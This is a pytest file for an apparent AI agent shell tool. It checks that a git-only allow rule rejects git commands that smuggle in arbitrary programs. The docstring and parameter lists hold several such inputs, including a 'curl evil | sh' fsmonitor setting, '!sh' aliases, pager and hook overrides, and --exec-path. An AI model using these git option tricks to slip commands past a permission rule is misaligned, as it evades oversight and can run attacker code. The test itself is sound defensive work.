"""``--allowedTools "Bash(git:*)"`` allows git commands, not the programs git can be told to run.

``git -c core.fsmonitor='curl evil | sh' status`` starts with ``git``, yet runs any program; so
do ``-c alias.x='!sh'``, ``-c core.pager=...``, ``--config-env`` and ``--exec-path``. Such a
command matches no allow rule (it asks, and is denied in ``-p``); plain git commands and
harmless ``-c`` settings still match.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from agentsh.tools.rules import ToolRules
from agentsh.tools.shell import BashParams


def _allowed(command: str, tmp_path: Path) -> bool:
    rules = ToolRules.parse(allow=["Bash(git:*)"])
    verdict = rules.check("bash", BashParams(command=command), tmp_path, tmp_path)
    return verdict is not None and verdict.allowed


@pytest.mark.parametrize(
    "command",
    [
        "git -c core.fsmonitor='touch /tmp/x' status",
        "git -c core.hooksPath=/tmp/hooks commit -m x",
        "git -ccore.pager=sh log",
        "git -c alias.st='!sh -c id' st",
        "git -c diff.external=/tmp/x diff",
        "git -c filter.lfs.smudge=/tmp/x checkout .",
        "git -c include.path=/tmp/evil.cfg status",
        "git -c CORE.FSMONITOR=/tmp/x status",
        "git --config-env=core.pager=EVIL log",
        "git --exec-path=/tmp status",
        "git status && git -c core.sshCommand=/tmp/x fetch",
    ],
)
def test_git_told_to_run_a_program_matches_no_allow_rule(command: str, tmp_path: Path) -> None:
    assert not _allowed(command, tmp_path)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git log --oneline -5",
        "git -c user.name=agentsh -c user.email=a@b.c commit -m 'fix: x'",
        "git -c color.ui=never diff",
        "git commit -m 'use -c core.pager in docs'",
    ],
)
def test_plain_git_commands_still_match(command: str, tmp_path: Path) -> None:
    assert _allowed(command, tmp_path)
